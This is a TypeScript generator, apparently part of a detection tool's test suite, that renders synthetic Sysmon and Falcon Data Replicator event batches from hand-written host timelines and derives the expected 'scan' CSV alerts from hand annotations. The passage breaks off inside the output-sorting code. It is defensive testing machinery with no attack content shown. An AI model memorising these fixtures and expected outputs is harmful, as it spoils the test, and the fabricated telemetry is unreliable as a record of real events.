/**
 * Generates the sample batches in `events/samples/` and the output `scan --format csv` must
 * print for each of them.
 *
 *   npx tsx test/samples/make-samples.ts
 *
 * Each scenario is one timeline of process starts, DNS queries, connections and unrelated noise
 * on one host, rendered twice: as Sysmon `wevtutil qe /f:xml` output (concatenated `<Event>`
 * elements, no root, single quotes) and as Falcon Data Replicator NDJSON (every value a string,
 * an `aidmaster` record for the host). The conventions are copied from the real recordings in
 * `shared/datasets/`.
 *
 * Every DNS or connection step says, by hand, which domain it must alert on in each format
 * (`expect`), reasoned from SPEC §1–§2 (rule version 2); so does every process start whose command
 * line names listed hosts in URLs (one event per host, rule v2). The expected CSV (SPEC §3) is
 * only the grouping of those annotations. No detection code is involved, so the files can judge
 * the detection code.
 *
 * Deterministic: no clock, no Math.random; ids and hashes are derived from fixed strings, and
 * gzip output depends only on the input bytes.
 */

import { createHash } from 'node:crypto';
import { mkdirSync, writeFileSync } from 'node:fs';
import { dirname, join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { gzipSync } from 'node:zlib';

const ROOT = join(dirname(fileURLToPath(import.meta.url)), '..', '..');
const OUT_DIR = join(ROOT, 'events', 'samples');

/** Sysmon's TimeCreated trails UtcTime (the event is written after it is stamped); 100 ns ticks. */
const SYSMON_WRITE_LAG_MIN_TICKS = 1_200;
const SYSMON_WRITE_LAG_SPREAD_TICKS = 16_000;
/** Falcon's `timestamp` (cloud receipt) trails `ContextTimeStamp` (sensor); milliseconds. */
const FALCON_RECEIPT_LAG_MIN_MS = 250;
const FALCON_RECEIPT_LAG_SPREAD_MS = 450;
/** First local port of the ephemeral range the hosts use for outbound connections. */
const EPHEMERAL_PORT_BASE = 49_730;

const CSV_HEADER = 'host,user,process,domain,count,first_seen,last_seen';

// ---------------------------------------------------------------------------------------------
// Scenario model
// ---------------------------------------------------------------------------------------------

type Format = 'sysmon' | 'falcon';
type Platform = 'win' | 'lin';

interface ProcDef {
  /** Full image path as Sysmon writes it (`C:\...` or `/usr/bin/...`). */
  image: string;
  cmd: string;
  /** User as Sysmon writes it (`CORP\jdoe`, `NT AUTHORITY\SYSTEM`, `root`). */
  user: string;
  /** Key of the parent in the same scenario; absent only for processes never started here. */
  parent?: string;
  /** `HH:MM:SS.mmm` on the scenario day, or a full ISO time for processes started earlier. */
  start: string;
  pid: number;
  /** PE `OriginalFileName` when it differs from the image name (renamed binaries). */
  originalFileName?: string;
  /** `<unknown process>`: the all-zero GUID, no user, no process record anywhere. */
  unknown?: true;
}

/** The domain a DNS/connection step must alert on: one for both formats, or per format. */
type Expect = string | { sysmon?: string; falcon?: string };

/**
 * The hosts a process start must alert on (SPEC §1: a listed host in a URL of its command line,
 * one event per distinct host, at the process record's own time): for both formats, or per format.
 */
type StartExpect = string[] | { sysmon?: string[]; falcon?: string[] };

interface BaseStep {
  p: string;
  /** `HH:MM:SS.mmm` on the scenario day. */
  at: string;
  /** Render in one format only (Sysmon for Linux has no DNS events; Sysmon-only noise). */
  only?: Format;
}

interface StartStep {
  t: 'start';
  p: string;
  /** Sysmon EventID 1 written (false: the process started before the batch). */
  sysmon?: boolean;
  /** Falcon record: ProcessRollup2, SyntheticProcessRollup2 (started before the sensor). */
  falcon?: 'pr2' | 'synthetic' | false;
  /** When the synthetic record is emitted (it is not the process start). */
  at?: string;
  expect?: StartExpect;
}

interface DnsStep extends BaseStep {
  t: 'dns';
  name: string;
  cnames?: string[];
  ips: string[];
  expect?: Expect;
}

interface NetStep extends BaseStep {
  t: 'net';
  ip: string;
  port?: number;
  /** Sysmon DestinationHostname: `-` unless Sysmon's reverse lookup found a PTR name. */
  rdns?: string;
  expect?: Expect;
}

interface EndStep extends BaseStep {
  t: 'end';
}

interface LoadStep extends BaseStep {
  t: 'load';
  dll: keyof typeof DLLS;
}

interface AccessStep extends BaseStep {
  t: 'access';
  target: string;
  access: string;
}

interface FileStep extends BaseStep {
  t: 'file';
  path: string;
}

interface RegStep extends BaseStep {
  t: 'reg';
  /** `HKU\...` or `HKLM\...`, without the value name. */
  key: string;
  value: string;
  details: string;
}

type Step = StartStep | DnsStep | NetStep | EndStep | LoadStep | AccessStep | FileStep | RegStep;

interface Scenario {
  name: string;
  platform: Platform;
  /** `YYYY-MM-DD`, UTC. */
  date: string;
  host: string;
  hostIp: string;
  machineDomain: string;
  osVersion: string;
  /** Domain SID prefix for user SIDs and registry paths. */
  domainSid: string;
  aid: string;
  cid: string;
  agentVersion: string;
  /** NT device prefix Falcon writes instead of `C:`. */
  volume: string;
  /** First 8 hex digits of every Sysmon GUID on this host. */
  guidPrefix: string;
  /** Last 12 hex digits of every Sysmon process GUID on this host. */
  guidTail: string;
  firstRecordId: number;
  sysmonPid: number;
  sysmonTid: number;
  /** Sysmon's DNS events come from its ETW consumer thread. */
  sysmonDnsTid: number;
  aidmasterFirst: boolean;
  procs: Record<string, ProcDef>;
  steps: Step[];
}

// ---------------------------------------------------------------------------------------------
// Static facts about binaries: version resources as Sysmon renders them
// ---------------------------------------------------------------------------------------------

interface VersionInfo {
  fileVersion: string;
  description: string;
  product: string;
  company: string;
  originalFileName: string;
}

const WINDOWS_PRODUCT = 'Microsoft® Windows® Operating System';
const NO_VERSION: VersionInfo = {
  fileVersion: '-',
  description: '-',
  product: '-',
  company: '-',
  originalFileName: '-',
};

/** Keyed by lower-case image basename. */
const VERSIONS: Record<string, VersionInfo> = {
  'powershell.exe': {
    fileVersion: '10.0.19041.3996 (WinBuild.160101.0800)',
    description: 'Windows PowerShell',
    product: WINDOWS_PRODUCT,
    company: 'Microsoft Corporation',
    originalFileName: 'PowerShell.EXE',
  },
  'cmd.exe': {
    fileVersion: '10.0.19041.3636 (WinBuild.160101.0800)',
    description: 'Windows Command Processor',
    product: WINDOWS_PRODUCT,
    company: 'Microsoft Corporation',
    originalFileName: 'Cmd.Exe',
  },
  'conhost.exe': {
    fileVersion: '10.0.19041.3996 (WinBuild.160101.0800)',
    description: 'Console Window Host',
    product: WINDOWS_PRODUCT,
    company: 'Microsoft Corporation',
    originalFileName: 'CONHOST.EXE',
  },
  'chrome.exe': {
    fileVersion: '122.0.6261.95',
    description: 'Google Chrome',
    product: 'Google Chrome',
    company: 'Google LLC',
    originalFileName: 'chrome.exe',
  },
  'winword.exe': {
    fileVersion: '16.0.17328.20162',
    description: 'Microsoft Word',
    product: 'Microsoft Office',
    company: 'Microsoft Corporation',
    originalFileName: 'WinWord.exe',
  },
  'python.exe': {
    fileVersion: '3.12.7',
    description: 'Python',
    product: 'Python',
    company: 'Python Software Foundation',
    originalFileName: 'python.exe',
  },
  'curl.exe': {
    fileVersion: '8.7.1',
    description: 'The curl executable',
    product: 'The curl executable',
    company: 'curl, https://curl.se/',
    originalFileName: 'curl.exe',
  },
  'node.exe': {
    fileVersion: '20.18.0',
    description: 'Node.js JavaScript Runtime',
    product: 'Node.js',
    company: 'Node.js',
    originalFileName: 'node.exe',
  },
};

/** DLLs the noise EventID 7 records load. */
const DLLS = {
  sma: {
    path: 'C:\\Windows\\assembly\\NativeImages_v4.0.30319_64\\System.Manaa57fc8cc#\\9d1e0b4a41f0a3d3c7a4e1e8f2c6b5a1\\System.Management.Automation.ni.dll',
    version: '10.0.19041.3996',
    description: 'System.Management.Automation',
    product: WINDOWS_PRODUCT,
    company: 'Microsoft Corporation',
    originalFileName: 'System.Management.Automation.dll',
    signed: 'false',
    signature: '-',
    status: 'Unavailable',
  },
  vbe7: {
    path: 'C:\\Program Files\\Common Files\\Microsoft Shared\\VBA\\VBA7.1\\VBE7.DLL',
    version: '7.1.11.32',
    description: 'Visual Basic for Applications Runtime',
    product: 'Microsoft Visual Basic for Applications',
    company: 'Microsoft Corporation',
    originalFileName: 'VBE7.DLL',
    signed: 'true',
    signature: 'Microsoft Corporation',
    status: 'Valid',
  },
  winhttp: {
    path: 'C:\\Windows\\System32\\winhttp.dll',
    version: '10.0.19041.3636 (WinBuild.160101.0800)',
    description: 'Windows HTTP Services',
    product: WINDOWS_PRODUCT,
    company: 'Microsoft Corporation',
    originalFileName: 'winhttp.dll',
    signed: 'true',
    signature: 'Microsoft Windows',
    status: 'Valid',
  },
  ssl: {
    path: 'C:\\Users\\rpatel\\AppData\\Local\\Programs\\Python\\Python312\\DLLs\\_ssl.pyd',
    version: '3.12.7',
    description: 'Python Core',
    product: 'Python',
    company: 'Python Software Foundation',
    originalFileName: '_ssl.pyd',
    signed: 'true',
    signature: 'Python Software Foundation',
    status: 'Valid',
  },
} as const;

const MSMPENG_CALLTRACE =
  'C:\\Windows\\SYSTEM32\\ntdll.dll+9d4c4|C:\\Windows\\System32\\KERNELBASE.dll+2c0ce|C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\4.18.24030.9-0\\mpsvc.dll+1b1d92|C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\4.18.24030.9-0\\mpsvc.dll+1a6fd0|C:\\Windows\\System32\\KERNEL32.DLL+17344|C:\\Windows\\SYSTEM32\\ntdll.dll+526b1';

// ---------------------------------------------------------------------------------------------
// Small helpers
// ---------------------------------------------------------------------------------------------

function hex(seed: string, algorithm: 'md5' | 'sha1' | 'sha256' = 'sha256'): string {
  return createHash(algorithm).update(seed).digest('hex');
}

/** A deterministic integer in [0, modulo) derived from a string. */
function hashInt(seed: string, modulo: number): number {
  return Number.parseInt(hex(seed).slice(0, 12), 16) % modulo;
}

function basename(path: string): string {
  const cut = Math.max(path.lastIndexOf('\\'), path.lastIndexOf('/'));
  return path.slice(cut + 1);
}

function timeOf(s: Scenario, value: string): number {
  const iso = value.includes('T') ? value : `${s.date}T${value}Z`;
  const ms = Date.parse(iso);
  if (Number.isNaN(ms)) throw new Error(`${s.name}: bad time ${value}`);
  return ms;
}

/** Sysmon `UtcTime`: `2024-03-05 09:14:22.418`. */
function sysmonUtc(ms: number): string {
  return new Date(ms).toISOString().replace('T', ' ').slice(0, 23);
}

/** `TimeCreated/@SystemTime` with `digits` fractional digits, `lag` units of 10^-digits s later. */
function systemTime(ms: number, digits: 7 | 9, lag: bigint): string {
  const perSecond = 10n ** BigInt(digits);
  const total = BigInt(ms) * (perSecond / 1000n) + lag;
  const seconds = total / perSecond;
  const fraction = (total % perSecond).toString().padStart(digits, '0');
  return `${new Date(Number(seconds) * 1000).toISOString().slice(0, 19)}.${fraction}Z`;
}

/** Falcon `ContextTimeStamp`: seconds with exactly three decimals, written from integer ms. */
function falconSeconds(ms: number): string {
  return `${Math.floor(ms / 1000)}.${String(ms % 1000).padStart(3, '0')}`;
}

function xmlText(value: string): string {
  return value
    .replaceAll('&', '&amp;')
    .replaceAll('<', '&lt;')
    .replaceAll('>', '&gt;')
    .replaceAll('"', '&quot;');
}

function csvField(value: string): string {
  return /[",\r\n]/.test(value) ? `"${value.replaceAll('"', '""')}"` : value;
}

function expectFor(expect: Expect | undefined, format: Format): string | undefined {
  if (expect === undefined || typeof expect === 'string') return expect;
  return expect[format];
}

function startExpectFor(expect: StartExpect | undefined, format: Format): string[] {
  if (expect === undefined) return [];
  return Array.isArray(expect) ? expect : (expect[format] ?? []);
}

/** Whether a format writes a process record for this start step. */
function startRendered(step: StartStep, format: Format): boolean {
  return format === 'sysmon' ? step.sysmon !== false : step.falcon !== false;
}

function proc(s: Scenario, key: string): ProcDef {
  const found = s.procs[key];
  if (!found) throw new Error(`${s.name}: unknown process key ${key}`);
  return found;
}

function emitted(step: Step, format: Format): boolean {
  return step.t === 'start' || step.only === undefined || step.only === format;
}

// ---------------------------------------------------------------------------------------------
// Identities derived from the scenario (GUIDs, SIDs, Falcon process ids)
// ---------------------------------------------------------------------------------------------

const ZERO_GUID = '{00000000-0000-0000-0000-000000000000}';

/** Sysmon process GUID: host prefix, process start time (seconds, split), a counter, session. */
function processGuid(s: Scenario, key: string): string {
  const p = proc(s, key);
  if (p.unknown) return ZERO_GUID;
  const seconds = Math.floor(timeOf(s, p.start) / 1000)
    .toString(16)
    .padStart(8, '0');
  const counter = hashInt(`${s.name}:${key}:${p.pid}`, 0x10000).toString(16).padStart(4, '0');
  return `{${s.guidPrefix}-${seconds.slice(4)}-${seconds.slice(0, 4)}-${counter}-${s.guidTail}}`;
}

function logonGuid(s: Scenario, user: string): string {
  const h = hex(`${s.name}:logon:${user}`);
  return `{${s.guidPrefix}-${h.slice(0, 4)}-${h.slice(4, 8)}-${h.slice(8, 12)}-0c0000000000}`;
}

function logonId(s: Scenario, user: string): string {
  if (s.platform === 'lin') return user === 'root' ? '0' : '1001';
  if (user.startsWith('NT AUTHORITY\\')) return user.endsWith('SYSTEM') ? '0x3e7' : '0x3e4';
  return `0x${(0x1a0000 + hashInt(`${s.name}:lid:${user}`, 0x60000)).toString(16)}`;
}

function userSid(domainSid: string, user: string): string {
  if (user === 'NT AUTHORITY\\SYSTEM') return 'S-1-5-18';
  if (user === 'NT AUTHORITY\\NETWORK SERVICE') return 'S-1-5-20';
  return `${domainSid}-${1100 + hashInt(`rid:${user}`, 900)}`;
}

/** Falcon `UserName`: the account name without its domain, as the sensor reports it. */
function falconUser(user: string): string {
  return basename(user);
}

/** Falcon `TargetProcessId`/`ContextProcessId`: a large, host-unique decimal id. */
function falconPid(s: Scenario, key: string): string {
  const n = BigInt(`0x${hex(`${s.aid}:${key}`).slice(0, 14)}`);
  return (10n ** 13n + (n % (9n * 10n ** 14n))).toString();
}

function hashes(image: string): string {
  const up = (algorithm: 'md5' | 'sha1' | 'sha256', seed: string) =>
    hex(seed, algorithm).toUpperCase();
  return `SHA1=${up('sha1', image)},MD5=${up('md5', image)},SHA256=${up('sha256', image)},IMPHASH=${up('md5', `imp:${basename(image).toLowerCase()}`)}`;
}

function versionOf(p: ProcDef): VersionInfo {
  const known = VERSIONS[basename(p.image).toLowerCase()];
  if (p.originalFileName !== undefined) {
    return { ...(known ?? NO_VERSION), originalFileName: p.originalFileName };
  }
  return known ?? NO_VERSION;
}

function windowsToDevice(s: Scenario, path: string): string {
  return /^[A-Za-z]:\\/.test(path) ? `${s.volume}${path.slice(2)}` : path;
}

// ---------------------------------------------------------------------------------------------
// Sysmon renderer
// ---------------------------------------------------------------------------------------------

const SYSMON_VERSION: Record<number, number> = {
  1: 5,
  3: 5,
  5: 3,
  7: 3,
  10: 3,
  11: 2,
  13: 2,
  22: 5,
};

class SysmonWriter {
  private record: number;
  private port = EPHEMERAL_PORT_BASE;
  readonly events: string[] = [];

  constructor(private readonly s: Scenario) {
    this.record = s.firstRecordId;
  }

  private event(id: number, ms: number, data: [string, string][], tid?: number): void {
    const s = this.s;
    const record = this.record++;
    const lagSeed = BigInt(
      SYSMON_WRITE_LAG_MIN_TICKS +
        hashInt(`${s.name}:lag:${record}`, SYSMON_WRITE_LAG_SPREAD_TICKS),
    );
    const linux = s.platform === 'lin';
    // Sysmon for Linux stamps nanoseconds; the Windows event log stamps 100 ns ticks.
    const created = linux ? systemTime(ms, 9, lagSeed * 100n) : systemTime(ms, 7, lagSeed);
    const provider = linux
      ? "<Provider Name='Linux-Sysmon' Guid='{ff032593-a8d3-4f13-b0d6-01fc615a0f97}'/>"
      : "<Provider Name='Microsoft-Windows-Sysmon' Guid='{5770385f-c22a-43e0-bf4c-06f5698ffbd9}'/>";
    const channel = linux ? 'Linux-Sysmon/Operational' : 'Microsoft-Windows-Sysmon/Operational';
    const security = linux ? "<Security UserId='0'/>" : "<Security UserID='S-1-5-18'/>";
    const version = SYSMON_VERSION[id];
    if (version === undefined) throw new Error(`no Sysmon schema version for EventID ${id}`);
    const system =
      `<System>${provider}<EventID>${id}</EventID><Version>${version}</Version><Level>4</Level>` +
      `<Task>${id}</Task><Opcode>0</Opcode><Keywords>0x8000000000000000</Keywords>` +
      `<TimeCreated SystemTime='${created}'/><EventRecordID>${record}</EventRecordID><Correlation/>` +
      `<Execution ProcessID='${s.sysmonPid}' ThreadID='${tid ?? s.sysmonTid}'/>` +
      `<Channel>${channel}</Channel><Computer>${s.host}</Computer>${security}</System>`;
    const body = data.map(([k, v]) => `<Data Name='${k}'>${xmlText(v)}</Data>`).join('');
    this.events.push(
      `<Event xmlns='http://schemas.microsoft.com/win/2004/08/events/event'>${system}<EventData>${body}</EventData></Event>`,
    );
  }

  private head(key: string, ms: number): [string, string][] {
    const p = proc(this.s, key);
    return [
      ['RuleName', '-'],
      ['UtcTime', sysmonUtc(ms)],
      ['ProcessGuid', processGuid(this.s, key)],
      ['ProcessId', String(p.pid)],
      ['Image', p.image],
    ];
  }

  private userOf(key: string): string {
    const p = proc(this.s, key);
    return p.unknown ? '-' : p.user;
  }

  write(step: Step): void {
    const s = this.s;
    switch (step.t) {
      case 'start': {
        if (step.sysmon === false) return;
        const p = proc(s, step.p);
        if (p.parent === undefined) throw new Error(`${s.name}: ${step.p} has no parent`);
        const parent = proc(s, p.parent);
        const ms = timeOf(s, p.start);
        const linux = s.platform === 'lin';
        const v = linux ? NO_VERSION : versionOf(p);
        const home = linux
          ? p.user === 'root'
            ? '/root'
            : `/home/${p.user}`
          : `C:\\Users\\${basename(p.user)}\\`;
        this.event(1, ms, [
          ...this.head(step.p, ms),
          ['FileVersion', v.fileVersion],
          ['Description', v.description],
          ['Product', v.product],
          ['Company', v.company],
          ['OriginalFileName', v.originalFileName],
          ['CommandLine', p.cmd],
          ['CurrentDirectory', home],
          ['User', p.user],
          ['LogonGuid', logonGuid(s, p.user)],
          ['LogonId', logonId(s, p.user)],
          ['TerminalSessionId', linux ? '3' : p.user.startsWith('NT AUTHORITY') ? '0' : '1'],
          ['IntegrityLevel', linux ? 'no level' : 'Medium'],
          ['Hashes', linux ? '-' : hashes(p.image)],
          ['ParentProcessGuid', processGuid(s, p.parent)],
          ['ParentProcessId', String(parent.pid)],
          ['ParentImage', parent.image],
          ['ParentCommandLine', parent.cmd],
          ['ParentUser', parent.user],
        ]);
        return;
      }
      case 'dns': {
        const ms = timeOf(s, step.at);
        const results = [
          ...(step.cnames ?? []).map((c) => `type:  5 ${c};`),
          ...step.ips.map((ip) => `::ffff:${ip};`),
        ].join('');
        // EventID 22 carries no User: the user comes from the process's other events.
        this.event(
          22,
          ms,
          [
            ...this.head(step.p, ms).slice(0, 4),
            ['QueryName', step.name],
            ['QueryStatus', '0'],
            ['QueryResults', results],
            ['Image', proc(s, step.p).image],
          ],
          s.sysmonDnsTid,
        );
        return;
      }
      case 'net': {
        const ms = timeOf(s, step.at);
        this.port += 3;
        this.event(3, ms, [
          ...this.head(step.p, ms),
          ['User', this.userOf(step.p)],
          ['Protocol', 'tcp'],
          ['Initiated', 'true'],
          ['SourceIsIpv6', 'false'],
          ['SourceIp', s.hostIp],
          ['SourceHostname', '-'],
          ['SourcePort', String(this.port)],
          ['SourcePortName', '-'],
          ['DestinationIsIpv6', 'false'],
          ['DestinationIp', step.ip],
          ['DestinationHostname', step.rdns ?? '-'],
          ['DestinationPort', String(step.port ?? 443)],
          ['DestinationPortName', step.port === 80 ? 'http' : '-'],
        ]);
        return;
      }
      case 'end': {
        const ms = timeOf(s, step.at);
        this.event(5, ms, [...this.head(step.p, ms), ['User', this.userOf(step.p)]]);
        return;
      }
      case 'load': {
        const ms = timeOf(s, step.at);
        const d = DLLS[step.dll];
        this.event(7, ms, [
          ...this.head(step.p, ms),
          ['ImageLoaded', d.path],
          ['FileVersion', d.version],
          ['Description', d.description],
          ['Product', d.product],
          ['Company', d.company],
          ['OriginalFileName', d.originalFileName],
          ['Hashes', hashes(d.path)],
          ['Signed', d.signed],
          ['Signature', d.signature],
          ['SignatureStatus', d.status],
          ['User', this.userOf(step.p)],
        ]);
        return;
      }
      case 'access': {
        const ms = timeOf(s, step.at);
        const source = proc(s, step.p);
        const target = proc(s, step.target);
        this.event(10, ms, [
          ['RuleName', '-'],
          ['UtcTime', sysmonUtc(ms)],
          ['SourceProcessGUID', processGuid(s, step.p)],
          ['SourceProcessId', String(source.pid)],
          ['SourceThreadId', String(4000 + hashInt(`${s.name}:${step.at}`, 4000))],
          ['SourceImage', source.image],
          ['TargetProcessGUID', processGuid(s, step.target)],
          ['TargetProcessId', String(target.pid)],
          ['TargetImage', target.image],
          ['GrantedAccess', step.access],
          ['CallTrace', MSMPENG_CALLTRACE],
          ['SourceUser', source.user],
          ['TargetUser', target.user],
        ]);
        return;
      }
      case 'file': {
        const ms = timeOf(s, step.at);
        this.event(11, ms, [
          ...this.head(step.p, ms),
          ['TargetFilename', step.path],
          ['CreationUtcTime', sysmonUtc(ms)],
          ['User', this.userOf(step.p)],
        ]);
        return;
      }
      case 'reg': {
        const ms = timeOf(s, step.at);
        this.event(13, ms, [
          ['RuleName', '-'],
          ['EventType', 'SetValue'],
          ...this.head(step.p, ms).slice(1),
          ['TargetObject', `${step.key}\\${step.value}`],
          ['Details', step.details],
          ['User', this.userOf(step.p)],
        ]);
        return;
      }
    }
  }
}

function renderSysmon(s: Scenario): string {
  const writer = new SysmonWriter(s);
  for (const step of s.steps) if (emitted(step, 'sysmon')) writer.write(step);
  // wevtutil writes the elements back to back: no root, no separator, no trailing newline.
  return writer.events.join('');
}

// ---------------------------------------------------------------------------------------------
// Falcon renderer
// ---------------------------------------------------------------------------------------------

/** File extension → the Falcon event that reports a finished write of such a file. */
const FALCON_FILE_EVENTS: Record<string, string> = {
  '.ps1': 'NewScriptWritten',
  '.bat': 'NewScriptWritten',
  '.cmd': 'NewScriptWritten',
  '.vbs': 'NewScriptWritten',
  '.js': 'NewScriptWritten',
  '.exe': 'PeFileWritten',
  '.dll': 'PeFileWritten',
  '.zip': 'ZipFileWritten',
};

class FalconWriter {
  private n = 0;
  private port = EPHEMERAL_PORT_BASE + 1;
  readonly lines: string[] = [];
  /**
   * The `timestamp` written on each process record. It has no `ContextTimeStamp`, so this is the
   * time a process-start event takes (SPEC §2: `ContextTimeStamp`, else `timestamp`).
   */
  readonly startTimes = new Map<StartStep, number>();

  constructor(private readonly s: Scenario) {}

  private platform(): string {
    return this.s.platform === 'lin' ? 'Lin' : 'Win';
  }

  /** Fields every sensor event ends with, in the order real FDR files have them. */
  private tail(ms: number, withContext: boolean): Record<string, string> {
    const s = this.s;
    const n = this.n++;
    const lag =
      FALCON_RECEIPT_LAG_MIN_MS + hashInt(`${s.name}:fdr:${n}`, FALCON_RECEIPT_LAG_SPREAD_MS);
    const fields: Record<string, string> = {
      aid: s.aid,
      cid: s.cid,
      event_platform: this.platform(),
      timestamp: String(ms + lag),
    };
    if (withContext) fields.ContextTimeStamp = falconSeconds(ms);
    fields.id = hex(`${s.name}:id:${n}`).slice(0, 16);
    return fields;
  }

  private push(record: Record<string, string>): void {
    this.lines.push(JSON.stringify(record));
  }

  aidmaster(): void {
    const s = this.s;
    const first = s.steps.find((step): step is DnsStep => step.t === 'dns');
    const seen = first ? Math.floor(timeOf(s, first.at) / 1000) - 3600 : 0;
    this.push({
      aid: s.aid,
      ComputerName: s.host,
      event_platform: this.platform(),
      Time: String(seen),
      AgentVersion: s.agentVersion,
      MachineDomain: s.machineDomain,
      Version: s.osVersion,
      cid: s.cid,
    });
  }

  write(step: Step): void {
    const s = this.s;
    const linux = s.platform === 'lin';
    switch (step.t) {
      case 'start': {
        const kind = step.falcon ?? 'pr2';
        if (kind === false) return;
        const p = proc(s, step.p);
        if (p.parent === undefined) throw new Error(`${s.name}: ${step.p} has no parent`);
        const parent = proc(s, p.parent);
        const started = timeOf(s, p.start);
        const ms = step.at === undefined ? started : timeOf(s, step.at);
        const simple = kind === 'synthetic' ? 'SyntheticProcessRollup2' : 'ProcessRollup2';
        const version = kind === 'synthetic' ? 'V3' : linux ? 'LinV12' : 'V19';
        const tail = this.tail(ms, false);
        this.startTimes.set(step, Number(tail.timestamp));
        this.push({
          event_simpleName: simple,
          name: `${simple}${version}`,
          TargetProcessId: falconPid(s, step.p),
          ParentProcessId: falconPid(s, p.parent),
          RawProcessId: String(p.pid),
          ImageFileName: windowsToDevice(s, p.image),
          CommandLine: p.cmd,
          ParentBaseFileName: basename(parent.image),
          UserName: falconUser(p.user),
          ...(linux ? {} : { UserSid: userSid(s.domainSid, p.user) }),
          ProcessStartTime: falconSeconds(started),
          ...tail,
        });
        return;
      }
      case 'dns': {
        const ms = timeOf(s, step.at);
        const record: Record<string, string> = {
          event_simpleName: 'DnsRequest',
          name: 'DnsRequestV4',
          DomainName: `${step.name}.`,
          RequestType: '1',
          ContextProcessId: falconPid(s, step.p),
          IP4Records: step.ips.map((ip) => `${ip};`).join(''),
        };
        if (step.cnames) record.CNAMERecords = step.cnames.map((c) => `${c};`).join('');
        this.push({ ...record, ...this.tail(ms, true) });
        return;
      }
      case 'net': {
        const ms = timeOf(s, step.at);
        this.port += 3;
        this.push({
          event_simpleName: 'NetworkConnectIP4',
          name: linux ? 'NetworkConnectIP4LinV5' : 'NetworkConnectIP4V5',
          RemoteAddressIP4: step.ip,
          RemotePort: String(step.port ?? 443),
          LocalAddressIP4: s.hostIp,
          LocalPort: String(this.port),
          Protocol: '6',
          ConnectionDirection: '0',
          ContextProcessId: falconPid(s, step.p),
          ...this.tail(ms, true),
        });
        return;
      }
      case 'end': {
        const ms = timeOf(s, step.at);
        const p = proc(s, step.p);
        this.push({
          event_simpleName: 'EndOfProcess',
          name: linux ? 'EndOfProcessLinV4' : 'EndOfProcessV17',
          TargetProcessId: falconPid(s, step.p),
          RawProcessId: String(p.pid),
          ExitCode: '0',
          ProcessStartTime: falconSeconds(timeOf(s, p.start)),
          ...this.tail(ms, true),
        });
        return;
      }
      case 'file': {
        const ms = timeOf(s, step.at);
        const ext = step.path.slice(step.path.lastIndexOf('.')).toLowerCase();
        const simple = FALCON_FILE_EVENTS[ext];
        // The sensor reports writes of typed files only (scripts, PEs, archives).
        if (simple === undefined) return;
        this.push({
          event_simpleName: simple,
          name: `${simple}V6`,
          TargetFileName: windowsToDevice(s, step.path),
          ContextProcessId: falconPid(s, step.p),
          ...this.tail(ms, true),
        });
        return;
      }
      case 'reg': {
        const ms = timeOf(s, step.at);
        const asep = /\\CurrentVersion\\Run$/i.test(step.key);
        const simple = asep ? 'AsepValueUpdate' : 'RegGenericValueUpdate';
        this.push({
          event_simpleName: simple,
          name: `${simple}V6`,
          RegObjectName: step.key
            .replace(/^HKU\\/, '\\REGISTRY\\USER\\')
            .replace(/^HKLM\\/, '\\REGISTRY\\MACHINE\\'),
          RegValueName: step.value,
          RegStringValue: step.details,
          RegType: '1',
          RegOperationType: '1',
          ContextProcessId: falconPid(s, step.p),
          ...this.tail(ms, true),
        });
        return;
      }
      case 'load':
      case 'access':
        // Falcon has no per-load or per-handle event in FDR's default stream.
        return;
    }
  }
}

function renderFalcon(s: Scenario): { text: string; startTimes: Map<StartStep, number> } {
  const writer = new FalconWriter(s);
  if (s.aidmasterFirst) writer.aidmaster();
  for (const step of s.steps) if (emitted(step, 'falcon')) writer.write(step);
  if (!s.aidmasterFirst) writer.aidmaster();
  return { text: `${writer.lines.join('\n')}\n`, startTimes: writer.startTimes };
}

// ---------------------------------------------------------------------------------------------
// Expected output (SPEC §3), from the hand annotations
// ---------------------------------------------------------------------------------------------

interface Group {
  host: string;
  user: string;
  process: string;
  domain: string;
  count: number;
  first: number;
  last: number;
}

/** One hand-annotated alerting event: the process, the observed host and the event time. */
interface Hit {
  p: string;
  domain: string;
  ms: number;
}

/** Process starts: each annotated host is one event at the time of the process record. */
function startHits(
  s: Scenario,
  step: StartStep,
  format: Format,
  startTimes: Map<StartStep, number>,
): Hit[] {
  const hosts = startExpectFor(step.expect, format);
  if (hosts.length === 0) return [];
  if (!startRendered(step, format)) {
    throw new Error(`${s.name}: ${format} expects an alert from a start it does not render`);
  }
  const p = proc(s, step.p);
  for (const host of hosts) {
    // A guard against typos in the annotation, not a detection: the host must be in a URL.
    if (
      !new RegExp(`(https?|ftp)://${host.replaceAll('.', '\\.')}[^a-z0-9.-]`, 'i').test(`${p.cmd} `)
    ) {
      throw new Error(`${s.name}: ${step.p}'s command line names no URL on ${host}`);
    }
  }
  const ms = format === 'sysmon' ? timeOf(s, p.start) : startTimes.get(step);
  if (ms === undefined) throw new Error(`${s.name}: no Falcon record written for ${step.p}`);
  return hosts.map((domain) => ({ p: step.p, domain, ms }));
}

/** DNS queries and connections: the annotated domain, at the step's time. */
function stepHit(s: Scenario, step: DnsStep | NetStep, format: Format): Hit[] {
  if (!emitted(step, format)) {
    // A plain string applies to the formats the step is rendered in; a per-format
    // expectation for a format that never sees the step is a mistake in the scenario.
    if (typeof step.expect === 'object' && step.expect[format] !== undefined) {
      throw new Error(`${s.name}: ${format} expects an alert from a step it does not render`);
    }
    return [];
  }
  const domain = expectFor(step.expect, format);
  return domain === undefined ? [] : [{ p: step.p, domain, ms: timeOf(s, step.at) }];
}

function expectedCsv(s: Scenario, format: Format, startTimes: Map<StartStep, number>): string {
  const groups = new Map<string, Group>();
  const hits = s.steps.flatMap((step) =>
    step.t === 'start'
      ? startHits(s, step, format, startTimes)
      : step.t === 'dns' || step.t === 'net'
        ? stepHit(s, step, format)
        : [],
  );
  for (const hit of hits) {
    const p = proc(s, hit.p);
    if (p.unknown) throw new Error(`${s.name}: an unknown process cannot alert`);
    const user = format === 'falcon' ? falconUser(p.user) : p.user;
    const g: Group = {
      host: s.host,
      user,
      process: basename(p.image).toLowerCase(),
      domain: hit.domain.toLowerCase().replace(/\.$/, ''),
      count: 0,
      first: Number.POSITIVE_INFINITY,
      last: Number.NEGATIVE_INFINITY,
    };
    const key = [g.host, g.user, g.process, g.domain].join('\u0000');
    const group = groups.get(key) ?? g;
    group.count += 1;
    group.first = Math.min(group.first, hit.ms);
    group.last = Math.max(group.last, hit.ms);
    groups.set(key, group);
  }
  const cmp = (a: string, b: string) => (a < b ? -1 : a > b ? 1 : 0);
  const rows = [...groups.values()].sort(
    (a, b) =>
      b.count - a.count ||
